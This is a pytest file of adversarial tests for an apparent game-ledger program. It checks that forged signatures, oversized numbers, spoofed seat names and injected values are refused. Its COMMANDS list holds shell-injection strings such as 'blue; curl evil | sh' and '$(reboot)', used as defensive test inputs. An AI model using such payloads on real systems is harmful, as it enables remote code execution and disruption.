"""What somebody tried who read docs/trust.md as an enemy, with the program in hand: each says what the ledger does.

Attacks on dice, words, seats and lines one by one are in `test_trust.py`; here are those on what surrounds them: what a
verdict does not say, what is mailed, what is printed, what stays in the files beside a log.
"""

import base64
import json
import os
import shutil

import msgspec
import pytest

from hexledger.cli.consent import told
from hexledger.engine.catalogue import GAMES, open_game
from hexledger.engine.errors import EngineError
from hexledger.events.checkpoints import Checkpoint, origin_of, sign_checkpoint
from hexledger.events.dice_records import DiceChange, Fix, KeeperReveal, RollsConfirmed
from hexledger.events.errors import LedgerError
from hexledger.events.frame import (
    ADJOURNMENT,
    CLAIM,
    CONCESSION,
    DICE,
    DRAW,
    END,
    FORFEIT,
    LABEL,
    OPENING,
    REOPENING,
    REWIND,
    RULING,
    SEAT,
    STUDY,
    Claim,
    End,
    Label,
    Opening,
    Rewind,
    Ruling,
    Seat,
    Study,
    decode_frame,
    encode_frame,
    encode_value,
)
from hexledger.events.ledger import Ledger
from hexledger.events.model import DUEL, PRACTICE
from hexledger.events.notes import SignerKey
from hexledger.replays.audit.anchors import checkpoint_path, collect, make_checkpoint, read_notes
from hexledger.replays.audit.audit import audit
from hexledger.replays.errors import ReplayError
from hexledger.replays.log.chronicle import Chronicle, new_genesis
from hexledger.replays.log.genesis import genesis_frame, read_genesis
from hexledger.replays.log.mail import BadBundle, Fork, Missing, decode_bundle, encode_bundle, make_bundle, receive
from hexledger.replays.log.requests import ask, ask_end, ask_seat, carry_out
from hexledger.replays.referee.claims import claim
from hexledger.replays.secrets.memory import Memory
from hexledger.replays.secrets.remembering import Remembering
from hexledger.replays.secrets.words import give_word
from tests.drill.contested import Contest, decide, leaf_of, next_frame, refusals, with_frames
from tests.drill.game import drill
from tests.drill.play import BLUE, RED, edited, frames_of, written
from tests.drill.signed import KEYS, STRANGER

HUGE = (1 << 31, 1 << 62, (1 << 63) - 1, -(1 << 63))
"""Numbers at the edges of what a frame can hold."""


def rolled(contest: Contest) -> int:
    """The frame of a roll that was made just now."""
    contest.until_fixed()
    return contest.roll().seq


# ---------------------------------------------------------------------- what a verdict says of dice
@pytest.mark.parametrize("mode", ["duel", "referee"])
def test_who_has_dice_made_again_unasked_is_named_where_it_says_who_could_have_influenced_them(tmp_path, mode):
    """Under the undo policy `free` a bad die goes back until a good one comes: the verdict said `nobody`."""
    contest = Contest(tmp_path, mode, policy="free")
    seq = rolled(contest)
    honest = audit(contest.log, game=drill()).trust.influence[mode]
    with contest.open(RED, BLUE) as game:
        side = game.frame(seq).actor
        back = game.undo(side, reason="I did not like it")
    found = audit(contest.log, game=drill()).trust
    told = f"the {drill().side(side).capitalize()} side"
    assert found.alone == [(back.seq, told)]
    assert found.influence[mode] != honest
    assert f"{told}, who had dice made again unasked (#{back.seq})" in found.influence[mode]


def test_so_is_who_claims_an_error_of_his_own_that_the_error_policy_grants(tmp_path):
    contest = Contest(tmp_path, "duel", errors="ladder")
    granted = None
    while granted is None:
        seq = rolled(contest)
        with contest.open(RED, BLUE) as game:
            side = game.frame(seq).actor
            for what in ("combat", "movement"):
                try:
                    made = claim(game, side, seq, what, "misread the table")
                except ReplayError:
                    continue
                granted = made if made.outcome.what == "redo" else None
    found = audit(contest.log, game=drill()).trust
    assert found.alone == [(granted.frame.seq, f"the {drill().side(side).capitalize()} side")]
    assert not found.influence["duel"].startswith("nobody")


def test_dice_that_were_made_again_with_a_word_are_no_influence(tmp_path):
    contest = Contest(tmp_path, "duel")
    rolled(contest)
    with contest.open(RED, BLUE) as game:
        game.undo(RED, consent=[BLUE], reason="misread")
    found = audit(contest.log, game=drill()).trust
    assert found.undos and not found.alone
    assert found.influence["duel"].startswith("nobody")


# ---------------------------------------------------------------------- what is mailed
@pytest.fixture
def contest(tmp_path):
    """A duel of a few decisions."""
    made = Contest(tmp_path, "duel")
    made.play(3)
    return made


def bundle(contest: Contest, **fields: object):
    """A whole log as Red sends it, with other fields."""
    with contest.open(RED) as game:
        note = make_checkpoint(contest.log, game.ledger, game.genesis, [KEYS[RED]])
        return msgspec.structs.replace(make_bundle(game, RED, BLUE, 0, note), **fields)


COMMANDS = (
    "blue; curl evil | sh",
    "`reboot`",
    "$(reboot)",
    "blue\nanchored",
    "blue --force",
    "bl\u00fce",
    "",
    "x" * 41,
)


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("field", ["sender", "to", "game"])
def test_a_name_in_a_bundle_ends_up_in_no_command_that_is_to_be_typed(contest, field, name):
    """`ask the ... side for send --to ...` repeated what the opponent had written there."""
    data = json.loads(encode_bundle(bundle(contest)))
    for first, after in ((0, data["after"]), (99, "11" * 32)):
        text = json.dumps({**data, field: name, "first": first, "after": after})
        with pytest.raises(BadBundle, match="plain names") as refused:
            decode_bundle(text.encode())
        assert not name or name not in str(refused.value)


@pytest.mark.parametrize("field", ["log", "game", "sender", "to", "after", "checkpoint"])
def test_what_a_bundle_says_at_length_is_not_said_again(contest, field):
    made = bundle(contest, **{field: "y" * 1_000_000})
    with pytest.raises((BadBundle, Missing, Fork)) as refused:
        receive(decode_bundle(encode_bundle(made)), contest.log, game=drill())
    assert len(str(refused.value)) < 500


@pytest.mark.parametrize("first", [str(1 << 32), str(1 << 64), "9" * 30, "9" * 4_201, "-1"])
def test_the_number_of_a_bundles_first_frame_is_one_that_can_be(contest, first):
    data = json.loads(encode_bundle(bundle(contest)))
    text = json.dumps({**data, "first": "@", "after": "11" * 32}).replace('"@"', first)
    before = sorted(contest.folder.iterdir())
    with pytest.raises(BadBundle):
        decode_bundle(text.encode())
    assert sorted(contest.folder.iterdir()) == before


def test_bundles_twice_backwards_and_in_pieces_end_in_the_same_bytes(contest):
    with contest.open(RED, BLUE) as game:
        for _ in range(6):
            decide(game)
        whole = make_bundle(game, RED, BLUE, 0)
    size = len(whole.frames)
    with Chronicle.read(contest.log, game=drill()) as game:
        pieces = [
            msgspec.structs.replace(make_bundle(game, RED, BLUE, at), frames=whole.frames[at : at + 3])
            for at in range(0, size, 2)
        ]
    target = contest.folder / "theirs.hxl"
    receive(pieces[0], target, game=drill())
    for piece in [*pieces[:0:-1], pieces[1], *pieces, whole, *pieces]:
        try:
            receive(piece, target, game=drill())
        except Missing as missing:
            assert missing.kept is not None
    assert target.read_bytes() == contest.log.read_bytes()
    assert not list(contest.folder.glob("theirs.hxl.waiting-*")), "what waited was taken and is gone"


def test_another_genesis_under_the_same_log_id_is_another_history(contest, tmp_path):
    """The host changes an option of the game after it has begun, and sends it all anew."""
    made = bundle(contest)
    genesis = msgspec.structs.replace(contest_genesis(contest), options={"turns": 3})
    other = tmp_path / "other.hxl"
    frame, _ = genesis_frame(drill(), genesis)
    written(other, [encode_frame(frame)])
    swapped = msgspec.structs.replace(made, frames=(other_payload(other),), checkpoint="")
    before = contest.log.read_bytes()
    with pytest.raises((Fork, BadBundle)):
        receive(swapped, contest.log, game=drill())
    assert contest.log.read_bytes() == before


def contest_genesis(contest: Contest):
    with Chronicle.read(contest.log, game=drill()) as game:
        return game.genesis


def other_payload(log):
    with Ledger.open_reader(log) as ledger:
        return bytes(ledger.payload(0))


# ---------------------------------------------------------------------- checkpoints beside a log
def junk(count: int) -> str:
    """Signature lines of nobody."""
    return "".join(f"\u2014 k{os.urandom(4).hex()} {base64.b64encode(os.urandom(68)).decode()}\n" for _ in range(count))


def test_signatures_of_strangers_do_not_stay_in_the_checkpoint_file(contest):
    """A note has at most a hundred signatures: two bundles with sixty strangers each, and it counted no more, nor did
    those of anybody else over the same frames."""
    target = contest.folder / "theirs.hxl"
    made = bundle(contest)
    receive(made, target, game=drill())
    for _ in range(3):
        receive(msgspec.structs.replace(made, checkpoint=made.checkpoint + junk(60)), target, game=drill())
    anchors, remarks = collect([checkpoint_path(target)], contest_genesis(contest))
    assert [anchor.names for anchor in anchors] == [("Player 1",)] and remarks == []
    with contest.open(BLUE, log=target) as game:
        note = make_checkpoint(target, game.ledger, game.genesis, [KEYS[BLUE]])
    assert note.count("\u2014 ") == 2


def test_nor_does_one_key_under_a_hundred_names(contest):
    target = contest.folder / "theirs.hxl"
    made = bundle(contest)
    text = made.checkpoint.rpartition("\n\n")[0] + "\n"
    receive(made, target, game=drill())
    for number in range(4):
        keys = [SignerKey(f"red{number}x{one}", KEYS[RED]._seed) for one in range(40)]
        note = text + "\n" + "".join(key.sign(text) for key in keys)
        receive(msgspec.structs.replace(made, checkpoint=note), target, game=drill())
    (kept,) = read_notes(checkpoint_path(target))
    assert kept.count("\u2014 ") == 1


def test_a_checkpoint_with_lines_of_its_own_is_not_kept(contest):
    """Each would be another text, and the file would grow with every mail."""
    genesis, target = contest_genesis(contest), contest.folder / "theirs.hxl"
    made = bundle(contest)
    root = Checkpoint.parse(made.checkpoint.rpartition("\n\n")[0] + "\n")
    for number in range(3):
        said = Checkpoint(origin_of(genesis.game, genesis.log_id), root.size, root.root, (f"more {number}",))
        note = sign_checkpoint(said, [KEYS[RED]])
        receive(msgspec.structs.replace(made, checkpoint=note), target, game=drill())
    assert not checkpoint_path(target).exists()


# ---------------------------------------------------------------------- words
def test_what_an_undo_crosses_is_worked_out_by_who_is_asked(tmp_path):
    """The request said so itself: `across nothing`, written by who wants it."""

    contest = Contest(tmp_path, "duel")
    rolled(contest)
    with contest.open(RED, BLUE) as game:
        asked = ask(game, RED, reason="please")
        lied = msgspec.structs.replace(asked, crosses=("nothing of any weight",))
        assert "nothing of any weight" not in told(game, lied)
        assert told(game, lied) == told(game, asked) and "blind draw" in told(game, asked)


def test_a_word_is_not_given_twice_for_one_side_nor_for_none(contest):
    log = contest.log
    said = End(DRAW, 0, "", "enough")
    frame = next_frame(log, END, RED, said)
    word = give_word(frame, said, leaf_of(log), RED, KEYS[RED])
    tried = (((RED, RED), (word, word)), ((BLUE,), (word,)), ((3,), (word,)), ((BLUE,), ()), ((-1,), (word,)))
    for consent, signatures in tried:
        bad = msgspec.structs.replace(said, consent=consent, signatures=signatures)
        forged = with_frames(log, (next_frame(log, END, RED, bad), KEYS[RED]))
        assert refusals(log, forged)[0] in ("end", "consent")


def test_a_word_for_a_draw_is_none_for_an_adjournment_or_another_reason(contest):
    with contest.open(RED) as game:
        asked = ask_end(game, RED, DRAW, "enough")
    with contest.open(BLUE) as game:
        others = (End(ADJOURNMENT, 0, "", "enough"), End(DRAW, 0, "", "I give up"), End(CONCESSION, RED, "", "enough"))
        for changed in others:
            content = bytes(encode_value(changed)).hex()
            with pytest.raises((ReplayError, LedgerError)):
                carry_out(game, [msgspec.structs.replace(asked, content=content)])
        assert game.ledgerbook.ended is None


# ---------------------------------------------------------------------- ends, seats, studies while a die waits
def test_a_concession_while_a_die_waits_ends_the_game_and_rolls_nothing(tmp_path):
    contest = Contest(tmp_path, "duel")
    fix = contest.until_fixed()
    other = 3 - fix.actor
    gives_up = next_frame(contest.log, END, other, End(CONCESSION, fix.actor, "", ""))
    ended = with_frames(contest.log, (gives_up, KEYS[other]))
    found = audit(ended, game=drill())
    assert found.intact and found.trust.ended >= 0
    # the roll that waited cannot follow any more, and reopening needs the other's word
    again = next_frame(ended, END, other, End(REOPENING, 0, "", "I changed my mind"))
    assert "no word of" in refusals(ended, with_frames(ended, (again, KEYS[other])))[1]


@pytest.mark.parametrize("what", [FORFEIT, "adjudication", DRAW, ADJOURNMENT, REOPENING, "mate", ""])
def test_no_player_declares_what_is_not_his_to_declare(contest, what):
    for winner in (RED, BLUE, 0):
        frame = next_frame(contest.log, END, RED, End(what, winner, "", "because"))
        assert refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))[0] == "end"


def test_nobody_concedes_for_the_other_side(contest):
    for actor, winner, key in ((BLUE, RED, RED), (RED, RED, RED), (0, RED, RED)):
        frame = next_frame(contest.log, END, actor, End(CONCESSION, winner, "", ""))
        assert refusals(contest.log, with_frames(contest.log, (frame, KEYS[key])))[0] in ("end", "signature")


@pytest.mark.parametrize("waits", [False, True])
def test_a_study_frame_in_a_contested_log_makes_a_study_of_it_and_no_game_takes_it(tmp_path, waits):
    contest = Contest(tmp_path, "duel")
    if waits:
        contest.until_fixed()
    else:
        contest.play(2)
    study = with_frames(contest.log, (next_frame(contest.log, STUDY, 0, Study("open")), None))
    found = audit(study, game=drill())
    assert found.intact and found.trust.study_from >= 0
    line = with_frames(study, (next_frame(study, LABEL, RED, Label("aside", 0), at=0), None))
    with Chronicle.read(line, game=drill()) as game:
        made = make_bundle(game, RED, BLUE, 0)
    before = contest.log.read_bytes()
    with pytest.raises(BadBundle, match="study"):
        receive(made, contest.log, game=drill())
    assert contest.log.read_bytes() == before


def test_a_key_that_handed_its_seat_over_signs_nothing_in_the_same_bundle(contest):
    new = SignerKey("sam", b"s" * 32)
    with contest.open(RED, BLUE) as game:
        seat = Seat(RED, "Sam", new.verifier.public.hex(), "resigned")
        carry_out(game, [ask_seat(game, RED, seat, new)])
    frame = next_frame(contest.log, END, RED, End(CONCESSION, BLUE, "", "by the old key"))
    assert refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))[0] == "signature"
    back = next_frame(contest.log, SEAT, RED, Seat(RED, "Red", KEYS[RED].verifier.public.hex(), "I am back"))
    assert refusals(contest.log, with_frames(contest.log, (back, new)))[0] == "seat"


@pytest.mark.parametrize("name", ["Ann\u202e", "Ann\nBob", "A\u0000", "x" * 81, "", "\u200bAnn", "A\x1b[8m"])
def test_nobody_sits_down_under_a_name_that_cannot_be_shown(contest, name):
    seat = Seat(RED, name, STRANGER.verifier.public.hex(), "because")
    frame = next_frame(contest.log, SEAT, RED, seat)
    assert refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))[0] == "seat"


# ---------------------------------------------------------------------- numbers that cannot be
def huge_frames():
    """(kind, what it says) with a number at the edge of what can be written."""
    for number in HUGE:
        yield REWIND, Rewind(number, "", (), policy="")
        yield REWIND, Rewind(0, "", (), policy="", about=number, what="combat")
        yield OPENING, Opening(((number, (1,), "salt"),))
        yield LABEL, Label("aside", number)
        yield CLAIM, Claim(number, "combat", "x", "", "stands", "y")
        yield DICE, RollsConfirmed((number,))
        yield DICE, DiceChange(number, "open", (), "")
        yield DICE, KeeperReveal("00" * 32, "00" * 32, ((number, "00" * 32),), "x")
        yield END, End(CONCESSION, number, "", "")
        yield SEAT, Seat(number, "Sam", STRANGER.verifier.public.hex(), "x")
        yield RULING, Ruling("position", "x", effects=number)
        yield RULING, Ruling("position", "x", about=number)


def test_numbers_at_the_edge_are_refused_in_words_and_at_once(contest):
    wrong = 0
    for kind, said in huge_frames():
        try:
            frame = next_frame(contest.log, kind, RED, said)
        except OverflowError:
            continue
        where, why = refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))
        assert where and len(why) < 300 and "Traceback" not in why, (kind, said)
        wrong += 1
        for old in contest.folder.glob("forged-*"):
            old.unlink()
    assert wrong > 30


def test_a_fix_of_a_megabyte_or_of_lists_in_lists_is_refused_at_once(contest):
    deep: object = ()
    for _ in range(60):
        deep = (deep,)
    for said in (Fix(encode_value(("x" * 900_000,))), Fix(encode_value(deep)), Fix(encode_value(HUGE))):
        frame = next_frame(contest.log, DICE, RED, said)
        where, why = refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))
        assert where and len(why) < 500


def test_practice_dice_are_not_slipped_in_and_the_old_chains_do_not_come_back(contest):
    with contest.open(RED, BLUE) as game:
        told = game.genesis.commitments
    changes = (
        DiceChange(PRACTICE, "open", (), ""),
        DiceChange(DUEL, "", told, "forfeit"),
        DiceChange(DUEL, "", told[::-1], "forfeit"),
    )
    for change in changes:
        frame = next_frame(contest.log, DICE, RED, change)
        where, why = refusals(contest.log, with_frames(contest.log, (frame, KEYS[RED])))
        assert where in ("dice record", "consent") or "no word of" in why, (where, why)


# ---------------------------------------------------------------------- files put back
def test_log_vault_and_all_that_lies_beside_it_put_back_together_give_nothing(tmp_path):
    """The memory lies with the keys, not with the game."""
    (tmp_path / "home").mkdir()
    contest = Contest(tmp_path / "home", "duel")
    memory = Memory(tmp_path / "memory")

    def play(decisions):
        with contest.open(RED, BLUE) as game:
            game.memory = Remembering(memory)
            game.memory.resume(game)
            for _ in range(decisions):
                decide(game)

    play(2)
    shutil.copytree(contest.folder, tmp_path / "saved")
    play(4)
    shutil.rmtree(contest.folder)
    shutil.copytree(tmp_path / "saved", contest.folder)
    before = contest.log.read_bytes()
    with pytest.raises(ReplayError, match="old copy"):
        play(1)
    assert contest.log.read_bytes() == before


@pytest.mark.parametrize("name", GAMES)
def test_what_is_no_option_of_a_game_is_refused_in_a_line(name):
    """A genesis may hold any names and values: none is repeated at length."""
    game = open_game(name)
    scenario = next(found for found in game.edition.scenarios if game.playable(found) is True)
    first = new_genesis(f"{name}/{scenario}", seed="1", game=game)
    refused = 0
    for option in (*game.switches, *game.options(scenario), "turns", "u" * 5_000):
        for value in (1 << 62, -(1 << 63), "x" * 5_000):
            try:
                genesis_frame(game, msgspec.structs.replace(first, options={option: value}))
            except (EngineError, ReplayError) as error:
                refused += 1
                assert len(str(error)) < 800
    assert refused > 5


@pytest.mark.parametrize("form", [1, 2])
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("players", ((10**12, "x", ""),)),
        ("players", ((2**63, "x", ""),)),
        ("players", ((-1, "x", ""),)),
        ("dice_mode", 7),
        ("dice_mode", 2**62),
        ("dice_mode", 0),
        ("commitments", ("x",) * 20_000),
        ("format", 2**62),
        ("parent_log", ("ab" * 16, 3, "cd" * 32, 2)),
    ],
)
def test_a_genesis_that_cannot_be_is_refused_at_once_by_whoever_looks_at_it(run, fresh, form, field, value):
    """A seat far beyond all sides filled the memory of `verify --no-rules`; dice of no mode were a fault in `show`."""
    first, *more = [encode_frame(frame) for frame in frames_of(fresh)]
    genesis = msgspec.structs.replace(read_genesis(decode_frame(first, 0)), format=form)
    genesis = msgspec.structs.replace(genesis, **{field: value})
    changed = edited(decode_frame(first, 0), decision=encode_value(genesis))
    fresh.unlink()
    written(fresh, [encode_frame(changed), *more])
    for words in ("verify --no-rules", "verify", "show", "history", "record", "waiting", "offer", "luck"):
        command, *options = words.split()
        said = run(command, fresh, *options)
        assert said.code in (0, 1, 3, 4), (words, said)
        assert command != "verify" or said.code == 1 or form == 1, said
